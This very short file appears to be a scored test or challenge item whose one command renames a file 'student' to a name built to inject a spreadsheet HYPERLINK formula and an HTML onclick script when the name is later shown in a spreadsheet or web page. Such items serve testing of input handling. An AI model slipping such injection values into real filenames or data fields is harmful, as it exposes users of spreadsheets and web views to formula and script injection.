# tries: to be calculated by a spreadsheet, and read as a page
# earns: 70
mv student '=HYPERLINK("http:x","<b onclick=alert(1)>&amp;")'
